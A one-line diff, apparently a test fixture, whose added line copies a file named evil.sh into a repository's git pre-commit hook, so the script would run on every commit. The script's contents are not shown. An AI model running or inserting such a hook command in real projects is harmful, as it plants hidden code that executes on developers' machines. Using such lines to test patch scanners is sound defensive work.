@@ -1,0 +1,1 @@
+1cp evil.sh .git/hooks/pre-commit
